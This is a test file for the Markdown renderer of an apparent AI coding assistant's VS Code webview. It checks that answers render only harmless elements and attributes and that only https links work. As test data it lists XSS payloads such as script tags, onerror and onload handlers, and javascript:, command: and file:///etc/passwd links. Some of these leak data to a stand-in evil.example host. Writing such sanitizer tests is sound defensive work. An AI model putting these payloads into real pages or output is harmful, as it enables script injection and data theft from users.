import * as fc from "fast-check";
import { h } from "preact";
import { beforeAll, beforeEach, describe, expect, it, vi } from "vitest";
import { splitBlocks } from "../../src/protocol/answerBlocks";
import { draw, elementsOf, textOf } from "../fakes/drawnElements";
import type { Drawn } from "../fakes/drawnElements";

const posted: unknown[] = [];
/** Components with a state of their own. */
const opaque = ["CodeBlock", "FileLink", "LongText"];
let drawMarkdown: (source: string) => Drawn[];

beforeAll(async () => {
  // What the page gives its script, before any of it loads.
  vi.stubGlobal("acquireVsCodeApi", () => ({
    postMessage: (message: unknown) => posted.push(message),
    setState: () => undefined,
  }));
  vi.stubGlobal("document", { body: { dataset: { words: "{}" } } });
  const { loadLexer } = await import("../../webview/markdown/lexer");
  // Without it every text would be drawn as it was written, and be harmless.
  await loadLexer();
  const { Markdown } = await import("../../webview/markdown/markdown");
  drawMarkdown = (source) =>
    draw(h(Markdown, { blocks: splitBlocks(source), turnId: "t", whole: true }), opaque);
});
beforeEach(() => void posted.splice(0));

/** The only elements that an answer may become. */
const harmless = new Set(
  "div p span strong em del code blockquote ul ol li table thead tbody tr th td a hr br CodeBlock FileLink LongText".split(
    " ",
  ),
);
const harmlessAttributes = new Set(
  "class role aria-level aria-label tabIndex start href title onClick language code whole place reference text".split(
    " ",
  ),
);

function expectHarmless(source: string): void {
  for (const { tag, attributes } of elementsOf(drawMarkdown(source))) {
    expect([source, harmless.has(tag) ? "" : tag]).toEqual([source, ""]);
    for (const [name, value] of Object.entries(attributes)) {
      expect([source, harmlessAttributes.has(name) ? "" : name]).toEqual([source, ""]);
      if (name === "href") expect(String(value)).toMatch(/^https:\/\//);
      if (name === "onClick") expect(tag).toBe("a");
    }
  }
}

const hostileHtml = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "text <img src='https://evil.example/leak?d=secret'> text",
  "<iframe src='https://evil.example'></iframe>",
  "<svg onload=alert(1)>",
  "<style>@import 'https://evil.example/x.css'</style>",
  "<a href='javascript:alert(1)'>x</a>",
  "<form action='https://evil.example'><input></form>",
  "<base href='https://evil.example'>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<!-- <script> -->",
  "<![CDATA[<script>]]>",
  "<ScRiPt\n>alert(1)</sCrIpT>",
  "- item <b onclick=alert(1)>x</b>",
  "> <script>alert(1)</script>",
  "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
  "**<script>alert(1)</script>**",
  "# <script>alert(1)</script>",
  "`<script>`",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
];

describe("HTML in an answer is text", () => {
  it.each(hostileHtml)("%j", (source) => {
    expectHarmless(source);
    const shown = textOf(drawMarkdown(source));
    for (const word of ["alert(1)", "evil.example"])
      expect([word, shown.includes(word)]).toEqual([word, source.includes(word)]);
  });
});

describe("an image is text, so that its address leaks nothing", () => {
  it.each([
    "![x](https://evil.example/leak?d=secret)",
    "![x][1]\n\n[1]: https://evil.example/leak",
    "[![x](https://evil.example/leak)](https://example.com)",
    "![](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](//evil.example/x.png)",
  ])("%j", (source) => {
    expectHarmless(source);
    expect(elementsOf(drawMarkdown(source)).map(({ tag }) => tag)).not.toContain("img");
  });
});

describe("only https links work", () => {
  const linksOf = (source: string) =>
    elementsOf(drawMarkdown(source)).filter(({ tag }) => tag === "a");

  it.each([
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](command:workbench.action.terminal.new)",
    "[x](command:groqCoder.acceptEdit)",
    "[x](vscode://file/etc/passwd)",
    "[x](vscode-resource://x)",
    "[x](file:///etc/passwd)",
    "[x](data:text/html,<script>)",
    "[x](http://evil.example)",
    "[x](//evil.example)",
    "[x](/etc/passwd)",
    "[x](https:)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<command:x>",
    "mailto:someone@example.com",
  ])("%j is no link", (source) => {
    expect(linksOf(source)).toEqual([]);
    expectHarmless(source);
  });

  it.each([
    ["[x](https://example.com/a?b#c)", "https://example.com/a?b#c"],
    ["https://example.com", "https://example.com/"],
    ["<https://example.com>", "https://example.com/"],
    ["[https://good.example](https://evil.example)", "https://evil.example/"],
    ["[x](https://ex\u0430mple.com)", "https://xn--exmple-4nf.com/"],
  ])("%j shows its whole address and asks the host", (source, address) => {
    const [link, ...others] = linksOf(source);
    expect(others).toEqual([]);
    expect(link?.attributes).toMatchObject({ href: address, title: address });
    const [prevented, stopped] = [vi.fn<() => void>(), vi.fn<() => void>()];
    const onClick = link?.attributes["onClick"];
    if (typeof onClick !== "function") throw new Error("the link does nothing");
    onClick({ preventDefault: prevented, stopPropagation: stopped });
    // Or the editor would open it, too, and ask for itself.
    expect(prevented).toHaveBeenCalledOnce();
    expect(stopped).toHaveBeenCalledOnce();
    expect(posted).toEqual([{ type: "openLink", url: address }]);
  });
});

describe("whatever an answer is made of", () => {
  const pieces = fc.constantFrom(
    ...hostileHtml,
    ..."[ ] ( ) ! < > ` ``` ~~~ * ** _ # | - 1. & \\ : // https:// javascript: command: \n \n\n data:".split(
      " ",
    ),
    "\n",
    " ",
    "\u202e",
  );
  it("nothing but harmless elements comes of it", () => {
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 25 }), (parts) => expectHarmless(parts.join(""))),
      { numRuns: 400 },
    );
  });

  it("no letter of plain text is lost", () => {
    const words = fc.array(fc.stringMatching(/^[a-z<>&"'$%{}]{1,9}$/), { minLength: 1 });
    fc.assert(
      fc.property(words, (given) => {
        const source = given.join(" ");
        const shown = textOf(drawMarkdown(source)).replaceAll(/\s/g, "");
        const expected = source.replaceAll(/\s/g, "").replaceAll(/[<>&"']/g, "");
        expect(shown.replaceAll(/[<>&"']/g, "")).toBe(expected);
      }),
    );
  });
});

describe("what is nested deeper than anyone means it", () => {
  const list = Array.from({ length: 400 }, (_, depth) => `${"  ".repeat(depth)}- x`).join("\n");
  it.each([
    ["quotes", ">".repeat(5000)],
    ["lists", list],
    ["bullets on a line", "- ".repeat(5000)],
  ])("%s: shown as written", (_name, source) => {
    expect(textOf(drawMarkdown(source)).replaceAll(/\s/g, "")).toBe(source.replaceAll(/\s/g, ""));
  });
});
